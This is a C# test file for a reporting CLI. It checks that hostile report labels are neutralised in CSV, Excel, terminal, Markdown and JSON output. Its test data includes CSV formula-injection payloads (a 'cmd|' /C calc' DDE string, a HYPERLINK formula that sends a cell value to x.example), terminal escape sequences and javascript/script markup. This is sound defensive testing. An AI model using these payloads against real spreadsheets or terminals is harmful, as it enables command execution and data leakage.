using nietras.SeparatedValues;
using System.Text.Json.Nodes;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using LppdMetrics.Documents.Writing;

namespace LppdMetrics.Cli.Tests;

/// <summary>
/// A hostile report — labels, table titles, the region written to inject a formula, markup or terminal escapes — gives
/// an auditor's report that is safe to open: CSV cells are never formulas (docs/output-safety.md), the workbook opens
/// and holds text, the terminal text carries no control character. The HTML is checked in a browser (BrowserTests).
/// </summary>
public class ReportInjectionTests
{
    private static readonly Lazy<string> Default = new(() => CliRunner.Run("audit", "--export-default").Out);

    /// <summary>The embedded report with every figure's label, every table title and the region set to <paramref name="hostile"/>.</summary>
    private static string HostileReport(string hostile)
    {
        var doc = JsonNode.Parse(Default.Value)!.AsObject();
        doc["region"] = hostile;
        foreach (var table in doc["tables"]!.AsArray())
        {
            table!["title"] = hostile;
            foreach (var figure in table["figures"]?.AsArray() ?? [])
                figure!["label"] = hostile;
        }
        return CliRunner.TempFile("hostile.json", doc.ToJsonString());
    }

    private static string OutputPath(string input, string extension) => Path.Combine(Path.GetDirectoryName(input)!, "report." + extension);

    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Csv_cells_of_a_hostile_report_start_with_an_apostrophe(string hostile)
    {
        // Before the fix the label was written as is: a spreadsheet evaluated "=HYPERLINK(…)" or "-2+3" (= 1)
        foreach (string lang in new[] { "id", "en" })
        {
            string input = HostileReport(hostile);
            string output = OutputPath(input, "csv");
            var r = CliRunner.Run("audit", input, "--format", "csv", "--lang", lang, "-o", output);
            Assert.Equal(ExitCodes.Findings, r.ExitCode);
            Assert.Equal("", r.Error);
            char separator = lang == "id" ? ';' : ',';
            using var reader = Sep.Reader(o => o with { Sep = new Sep(separator), Unescape = true }).FromFile(output);
            int rows = 0, hostileLabels = 0, hostileSections = 0;
            foreach (var row in reader)
            {
                rows++;
                if (row[1].ToString() == "'" + hostile) hostileSections++;  // section: the table title
                if (row[2].ToString() == "'" + hostile) hostileLabels++;    // figure: its label
                for (int c = 0; c < row.ColCount; c++)
                {
                    string cell = row[c].ToString();
                    Assert.False(cell.Length > 0 && (cell[0] is '=' or '+' or '@' or '\t' or '\r' || cell == hostile), $"row {rows} column {c}: {cell}");
                }
            }
            // The embedded report's table figures (1 200 and more; the SPM and the cross-table notes have labels of their own)
            Assert.True(hostileLabels > 1000 && hostileSections > 1000, $"{rows} rows, {hostileLabels} labels, {hostileSections} sections");
        }
    }

    [Fact]
    public void A_negative_difference_stays_a_number_in_the_csv()
    {
        // The embedded report's mismatches include printed totals below the sum of their parts: a negative difference,
        // written "-1,00"-style (Indonesian) with no apostrophe, so that a spreadsheet still reads a number.
        string output = CliRunner.TempFile("report.csv", "");
        Assert.Equal(ExitCodes.Findings, CliRunner.Run("audit", "--format", "csv", "--lang", "id", "-o", output).ExitCode);
        using var reader = Sep.Reader(o => o with { Sep = new Sep(';'), Unescape = true }).FromFile(output);
        var differences = reader.Enumerate(row => row[8].ToString()).Where(d => d.StartsWith('-') || d.StartsWith('\'')).ToList();
        Assert.NotEmpty(differences);
        Assert.All(differences, d => Assert.Matches(@"^-[0-9]+(,[0-9]+)?$", d));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")")]
    [InlineData("+cmd", "'+cmd")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("-", "'-")]
    [InlineData("-,5", "'-,5")]
    [InlineData("-1,", "'-1,")]
    [InlineData("-1.2.3", "'-1.2.3")]
    [InlineData("-2,5", "-2,5")]
    [InlineData("-1234.5", "-1234.5")]
    [InlineData("-7", "-7")]
    [InlineData("Kabupaten Blitar", "Kabupaten Blitar")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void A_spreadsheet_cell_is_prefixed_unless_it_is_a_plain_number(string text, string expected) =>
        Assert.Equal(expected, InertText.SpreadsheetCell(text));

    [Fact]
    public void Poverty_groups_in_the_csv_output_are_never_formulas()
    {
        // A group named "=cmd()" from --by was written as is (a known open item): a spreadsheet evaluated it
        string path = CliRunner.TempFile("groups.csv", "y,g\n1,=cmd()\n2,-2+3\n3,-5\n4,@SUM(1)\n");
        var r = CliRunner.Run("poverty", path, "--value", "y", "--line", "2.5", "--by", "g", "--format", "csv");
        Assert.Equal(ExitCodes.Success, r.ExitCode);
        Assert.Equal("", r.Error);
        string[] firstCells = [.. r.Out.ReplaceLineEndings("\n").Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.Split(',')[0])];
        Assert.Contains("'=cmd()", firstCells);
        Assert.Contains("'-2+3", firstCells);
        Assert.Contains("'@SUM(1)", firstCells);
        Assert.Contains("-5", firstCells); // a group that is a number stays a number
        Assert.DoesNotContain(firstCells, c => c.Length > 0 && c[0] is '=' or '+' or '@');
    }

    [Fact]
    public void A_control_character_in_a_label_gives_a_workbook_that_opens()
    {
        // Before the fix: exit 2 and "'\u0001', hexadecimal value 0x01, is an invalid character." naming nothing, for a
        // valid report; now the character is U+FFFD in the cell and the workbook opens
        string input = HostileReport("\u0001=1+1\u001b[31m \ud800 x");
        string output = OutputPath(input, "xlsx");
        var r = CliRunner.Run("audit", input, "--format", "xlsx", "-o", output);
        Assert.Equal("", r.Error);
        Assert.Equal(ExitCodes.Findings, r.ExitCode);
        using var workbook = SpreadsheetDocument.Open(output, false);
        var cells = workbook.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<Cell>()).ToList();
        Assert.DoesNotContain(cells, c => c.CellFormula is not null);  // text is an inline string, never a formula
        var texts = cells.Where(c => c.DataType?.Value == CellValues.InlineString).Select(c => c.InlineString!.InnerText).ToList();
        Assert.Contains("\uFFFD=1+1\uFFFD[31m \uFFFD x", texts);
    }

    [Fact]
    public void A_formula_in_a_label_is_an_inline_string_in_the_workbook()
    {
        string input = HostileReport("=HYPERLINK(\"http://x.example\",\"c\")");
        string output = OutputPath(input, "xlsx");
        Assert.Equal(ExitCodes.Findings, CliRunner.Run("audit", input, "--format", "xlsx", "-o", output).ExitCode);
        using var workbook = SpreadsheetDocument.Open(output, false);
        var cells = workbook.WorkbookPart!.WorksheetParts.SelectMany(p => p.Worksheet.Descendants<Cell>()).ToList();
        Assert.DoesNotContain(cells, c => c.CellFormula is not null);
        Assert.Contains(cells, c => c.DataType?.Value == CellValues.InlineString && c.InlineString!.InnerText == "=HYPERLINK(\"http://x.example\",\"c\")");
    }

    [Fact]
    public void Terminal_escapes_in_a_label_are_escaped_in_the_text_report()
    {
        // Before the fix the ESC of "\u001b[2J" (clear the screen) and a CR reached the terminal from the label, the
        // table title and the region
        string input = HostileReport("\u001b[2J\rfake\u0007 line\nnext");
        var r = CliRunner.Run("audit", input, "--verbose");
        Assert.Equal(ExitCodes.Findings, r.ExitCode);
        Assert.DoesNotContain(r.Out, c => char.IsControl(c) && c is not '\n' and not '\r');
        Assert.DoesNotContain("\r", r.Out.Replace(Environment.NewLine, "\n", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Contains("\\u001B[2J fake\\u0007 line next", r.Out, StringComparison.Ordinal);
    }

    [Fact]
    public void Markdown_of_a_hostile_report_keeps_its_tables_and_json_stays_valid()
    {
        string hostile = "a | b `c` ](javascript:alert(1)) <script>x</script>\nnext";
        string input = HostileReport(hostile);
        string md = OutputPath(input, "md");
        Assert.Equal(ExitCodes.Findings, CliRunner.Run("audit", input, "--format", "md", "-o", md).ExitCode);
        string[] lines = File.ReadAllLines(md);
        // Per-section table: seven columns (section, five statuses, total): eight unescaped pipes on every row.
        var table = lines.SkipWhile(l => !l.StartsWith("| ---", StringComparison.Ordinal)).Skip(1)
            .SkipWhile(l => !l.StartsWith("| ---", StringComparison.Ordinal)).Skip(1).TakeWhile(l => l.StartsWith('|')).ToList();
        Assert.NotEmpty(table);
        Assert.All(table, l => Assert.Equal(8, System.Text.RegularExpressions.Regex.Matches(l, @"(?<!\\)\|").Count));
        Assert.DoesNotContain(lines, l => l.Contains("<script>", StringComparison.Ordinal));
        var json = CliRunner.Run("audit", input, "--format", "json");
        var parsed = JsonNode.Parse(json.Out)!;
        Assert.Equal(hostile, parsed["findings"]![0]!["label"]!.GetValue<string>());
    }
}
